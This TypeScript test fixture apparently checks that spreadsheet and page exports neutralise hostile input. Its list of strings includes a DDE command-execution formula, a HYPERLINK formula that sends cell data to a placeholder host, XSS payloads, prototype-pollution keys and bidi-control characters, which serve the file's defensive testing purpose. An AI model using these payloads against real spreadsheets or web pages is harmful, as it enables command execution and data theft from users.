/** Texts made to become something else: a formula, an element of a page, a command, a property, an order of letters. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://example.invalid/?"&A1,"点这里")',
  "=cmd|'/c calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "＝2+2",
  "'=1+1",
  "<img src=x onerror=alert(1)>",
  '"><script>alert(1)</script>',
  "</td></table><svg onload=alert(1)>",
  "javascript:alert(1)",
  "&lt;b&gt;&amp;",
  "__proto__",
  "constructor",
  "toString",
  "示例\u202e会学\u202c",
  "示\u200b例\ufeff学会",
  "示例\u0007学会",
  "{n}{0}%s${1}",
  "$& $1 $`",
  '&A&P&"黑体"',
  "#REF!",
  "1e5",
  "示".repeat(3000),
];

interface Cell {
  readonly f?: string;
  readonly v?: unknown;
}
interface Sheet {
  readonly name: string;
  readonly cellData?: Readonly<Record<string, Cell>>;
}

const sheetsIn = (snapshot: unknown): readonly Sheet[] =>
  Object.values((snapshot as { sheets: Record<string, Sheet> }).sheets);

/** Every formula of a workbook, with its cell. */
export const formulasIn = (snapshot: unknown): readonly string[] =>
  sheetsIn(snapshot).flatMap(({ name, cellData = {} }) =>
    Object.entries(cellData).flatMap(([at, { f }]) => (f === undefined ? [] : [`${name} ${at} ${f}`])),
  );

/** Every text of a workbook. */
export const textsIn = (snapshot: unknown): ReadonlySet<unknown> =>
  new Set(sheetsIn(snapshot).flatMap(({ cellData = {} }) => Object.values(cellData).map(({ v }) => v)));

/** Names of elements in a page, and what of them could run: handlers, and addresses that are none. */
export function liveParts(page: Document): {
  readonly tags: ReadonlySet<string>;
  readonly live: readonly string[];
} {
  const all = [...page.querySelectorAll("*")];
  return {
    tags: new Set(all.map(({ localName }) => localName)),
    live: all.flatMap((one) =>
      [...one.attributes]
        .filter(
          ({ name, value }) =>
            /^on/i.test(name) ||
            (/^(?:href|src|action|xlink:href)$/.test(name) && !/^(?:#|data:image)/.test(value)),
        )
        .map(({ name, value }) => `${one.localName} ${name}=${value}`),
    ),
  };
}
